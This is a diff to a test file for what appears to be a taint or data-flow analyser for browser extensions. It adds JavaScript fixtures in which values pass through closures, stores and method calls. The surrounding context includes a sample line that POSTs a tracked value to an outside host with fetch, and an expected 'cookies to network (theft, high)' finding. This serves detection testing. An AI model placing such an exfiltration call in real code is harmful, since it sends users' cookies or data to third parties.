@@ -2,6 +2,10 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { flowsBetween } from '../../../../testing/flows-between.ts';
 
+/** What keeps a value in a variable of its own each time that it is made. */
+const store =
+  'const make = () => { let kept; return { set(value) { kept = value }, get: () => kept } };';
+
 /** Ways that lead to one of two values, `ONE` or `TWO`; `run` is what the other way round is sent as well. */
 const ways: Readonly<Record<string, string>> = {
   'an element after a push': 'const l = [TWO]; l.push(ONE); const held = l[1];',
@@ -44,6 +48,17 @@ const ways: Readonly<Record<string, string>> = {
   'a bound argument': 'const f = (x, y) => x; const held = f.bind(null, ONE)(TWO);',
   'this by call': 'function f() { return this.a } const held = f.call({ a: ONE, b: TWO });',
   arguments: 'function f() { return arguments[1] } const held = f(TWO, ONE);',
+  'a store that a function makes': `${store} const a = make(), b = make(); a.set(ONE); b.set(TWO); const held = a.get();`,
+  'a pair of state':
+    'const state = (first) => { let now = first; return [() => now, (value) => { now = value }] }; const [a, setA] = state(null), [b, setB] = state(null); setA(ONE); setB(TWO); const held = a();',
+  'a closure over an argument':
+    'const make = (value) => ({ take: () => value }); const a = make(ONE), b = make(TWO); void b.take(); const held = a.take();',
+  'a reference that a function makes':
+    'const ref = (value) => ({ current: value }); const a = ref(null), b = ref(null); a.current = ONE; b.current = TWO; const held = a.current;',
+  'what is worked out once':
+    'const once = (work) => { let done = false, kept; return () => { if (!done) { kept = work(); done = true } return kept } }; const a = once(() => ONE), b = once(() => TWO); void b(); const held = a();',
+  'a function around another':
+    'const wrap = (work) => (...values) => work(...values); const same = wrap((value) => value); void same(TWO); const held = same(ONE);',
 };
 const send = "fetch('https://in.gather.dev/', { method: 'POST', body: held });";
 const theft = 'cookies content.js > network content.js (theft, high)';
@@ -70,6 +85,14 @@ describe('of two values, the one that is meant', () => {
       "const m = new Map([['a', TWO]]); window.f = () => m.set('a', ONE); const held = m.get('a');",
     'a member that is given again':
       'class Box { constructor(v) { this.v = v } } const a = new Box(TWO); a.v = ONE; const held = a.v;',
+    'a store under another name': `${store} const a = make(); a.set(TWO); const b = a; b.set(ONE); const held = a.get();`,
+    'a store that is handed on': `${store} const a = make(); a.set(TWO); fill(a); function fill(b) { b.set(ONE) } const held = a.get();`,
+    'a method of a store that is taken': `${store} const a = make(); a.set(TWO); const { set } = a; set(ONE); const held = a.get();`,
+    'a method of a store by a name worked out': `${store} const a = make(); a.set(TWO); a[['s', 'et'].join('')](ONE); const held = a.get();`,
+    'a method of a store by call': `${store} const a = make(); a.set(TWO); a.set.call(null, ONE); const held = a.get();`,
+    'a store of the window': `${store} const a = make(); a.set(TWO); window.store = a; window.store.set(ONE); const held = a.get();`,
+    'a store whose name is written with an escape': `${store} const all = make(); all.set(TWO); a\\u006cl.set(ONE); const held = all.get();`,
+    'a store that is filled in a loop': `${store} const a = make(); for (const each of [TWO, ONE]) a.set(each); const held = a.get();`,
     'what a function puts in':
       'const f = (o) => { o.a = ONE; return o }; const held = f({ a: TWO }).a;',
   };
